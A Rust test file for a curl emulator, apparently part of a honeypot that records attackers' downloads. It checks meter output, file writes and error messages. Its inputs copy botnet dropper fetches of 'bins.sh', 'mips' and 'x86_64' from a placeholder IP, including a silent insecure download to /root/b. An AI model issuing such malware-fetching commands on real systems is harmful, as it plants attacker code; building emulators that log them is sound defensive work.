//! Tests of `curl`: bodies, files, the progress meter, observations and errors.

use crate::Observation;
use crate::commands::testutil::{run, run_exec, shared_persona};

fn outcomes(notes: &[Observation]) -> Vec<(String, Option<u64>, Option<String>)> {
    notes
        .iter()
        .filter_map(|o| match o {
            Observation::Download(d) if d.tool == "curl" => {
                Some((d.outcome.clone(), d.size, d.destination.clone()))
            }
            _ => None,
        })
        .collect()
}

const ZERO: &str =
    "\r  0     0    0     0    0     0      0      0 --:--:-- --:--:-- --:--:--     0";

#[test]
fn body_to_a_pipe_with_the_meter() {
    let mut fs = shared_persona().new_fs();
    let r = run_exec(
        shared_persona(),
        &mut fs,
        "curl",
        &["http://198.51.100.7/bins.sh"],
        "/tmp",
        b"",
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.starts_with("#!/bin/sh\n"));
    let size = r.stdout.len();
    assert!(
        r.stderr.starts_with(&format!(
            "{}{ZERO}\r100 {size:5}  100 {size:5}    0     0 ",
            super::meter::HEADER
        )),
        "{:?}",
        r.stderr
    );
    assert!(r.stderr.ends_with("\n"));
    assert_eq!(
        outcomes(&r.notes),
        vec![("stdout".to_string(), Some(size as u64), None)]
    );
    let r = run_exec(
        shared_persona(),
        &mut fs,
        "curl",
        &["-s", "http://198.51.100.7/bins.sh"],
        "/tmp",
        b"",
    );
    assert_eq!(r.stderr, "");
}

#[test]
fn binary_to_the_terminal_is_refused() {
    let r = run("curl", &["http://198.51.100.7/x86_64"], "/tmp", b"");
    assert_eq!(r.stdout, "");
    assert_eq!(
        r.stderr,
        "Warning: Binary output can mess up your terminal. Use \"--output -\" to tell \nWarning: curl to output it to your terminal anyway, or consider \"--output \nWarning: <FILE>\" to save to a file.\n"
    );
    assert_eq!(r.code, 23);
}

#[test]
fn remote_name_and_output_files() {
    let mut fs = shared_persona().new_fs();
    let r = run_exec(
        shared_persona(),
        &mut fs,
        "curl",
        &["-O", "http://198.51.100.7/mips"],
        "/tmp",
        b"",
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    let o = outcomes(&r.notes);
    assert_eq!(o[0].2.as_deref(), Some("/tmp/mips"));
    let m = fs.stat("/", "/tmp/mips").unwrap();
    assert_eq!((Some(m.size), m.mode & 0o777), (o[0].1, 0o644));
    let r = run_exec(
        shared_persona(),
        &mut fs,
        "curl",
        &[
            "-sLko",
            "/root/b",
            "-A",
            "Mozilla",
            "-H",
            "X: y",
            "http://198.51.100.7/bins.sh",
        ],
        "/tmp",
        b"",
    );
    assert_eq!((r.code, r.stderr.as_str()), (0, ""));
    assert!(fs.exists("/", "/root/b"));
    let r = run_exec(
        shared_persona(),
        &mut fs,
        "curl",
        &["-o", "/nonexistent/x", "http://198.51.100.7/bins.sh"],
        "/tmp",
        b"",
    );
    assert_eq!(r.code, 23);
    assert!(r.stderr.ends_with("\nWarning: Failed to open the file /nonexistent/x: No such file or directory\ncurl: (23) Failure writing output to destination\n"), "{:?}", r.stderr);
    let r = run_exec(
        shared_persona(),
        &mut fs,
        "curl",
        &[
            "-s",
            "-w",
            "%{http_code}\\n",
            "-o",
            "/dev/null",
            "http://198.51.100.7/bins.sh",
        ],
        "/tmp",
        b"",
    );
    assert_eq!(r.stdout, "200\n");
}

#[test]
fn errors_read_like_curl() {
    let r = run("curl", &[], "/", b"");
    assert_eq!(
        (r.stderr.as_str(), r.code),
        (
            "curl: no URL specified!\ncurl: try 'curl --help' or 'curl --manual' for more information\n",
            2
        )
    );
    let r = run("curl", &["-Y"], "/", b"");
    assert_eq!(
        (r.stderr.as_str(), r.code),
        (
            "curl: option -Y: requires parameter\ncurl: try 'curl --help' or 'curl --manual' for more information\n",
            2
        )
    );
    let r = run("curl", &["--bogus"], "/", b"");
    assert_eq!(
        r.stderr,
        "curl: option --bogus: is unknown\ncurl: try 'curl --help' or 'curl --manual' for more information\n"
    );
    let r = run("curl", &["foo://x/y"], "/", b"");
    assert_eq!(
        (r.stderr.as_str(), r.code),
        (
            "curl: (1) Protocol \"foo\" not supported or disabled in libcurl\n",
            1
        )
    );
    for u in ["http://", "http://a:99999/", "http://a b/"] {
        let r = run("curl", &[u], "/", b"");
        assert_eq!(
            (r.stderr.as_str(), r.code),
            ("curl: (3) URL using bad/illegal format or missing URL\n", 3),
            "{u}"
        );
    }
    let r = run("curl", &["-s", "foo://x"], "/", b"");
    assert_eq!((r.stderr.as_str(), r.code), ("", 1));
    let r = run("curl", &["-sS", "http://nosuch.invalid/x"], "/", b"");
    assert_eq!(
        (r.stderr.as_str(), r.code),
        ("curl: (6) Could not resolve host: nosuch.invalid\n", 6)
    );
    assert_eq!(outcomes(&r.notes)[0].0, "dns_failed");
    let r = run("curl", &["-o", "x", "http://nosuch.invalid/x"], "/tmp", b"");
    assert_eq!(
        r.stderr,
        format!(
            "{}{ZERO}curl: (6) Could not resolve host: nosuch.invalid\n",
            super::meter::HEADER
        )
    );
    let r = run("curl", &["http://127.0.0.1:8080/"], "/", b"");
    assert_eq!(
        (r.stderr.as_str(), r.code),
        (
            "curl: (7) Failed to connect to 127.0.0.1 port 8080 after 0 ms: Couldn't connect to server\n",
            7
        )
    );
    assert_eq!(outcomes(&r.notes)[0].0, "refused");
    let r = run("curl", &["--version"], "/", b"");
    assert!(r.stdout.starts_with("curl 7.88.1 (x86_64-pc-linux-gnu)"));
}

#[test]
fn meter_formats() {
    use super::meter::{Frame, line};
    let l = line(&Frame {
        total: 1234,
        received: 1234,
        speed: 45703,
        ..Frame::default()
    });
    assert_eq!(
        l,
        "\r100  1234  100  1234    0     0  45703      0 --:--:-- --:--:-- --:--:-- 45703"
    );
    let l = line(&Frame {
        total: 900 * 1024,
        received: 405 * 1024,
        speed: 402 * 1024,
        total_secs: 2,
        spent_secs: 1,
        left_secs: 1,
    });
    assert_eq!(
        l,
        "\r 45  900k   45  405k    0     0   402k      0  0:00:02  0:00:01  0:00:01  402k"
    );
}
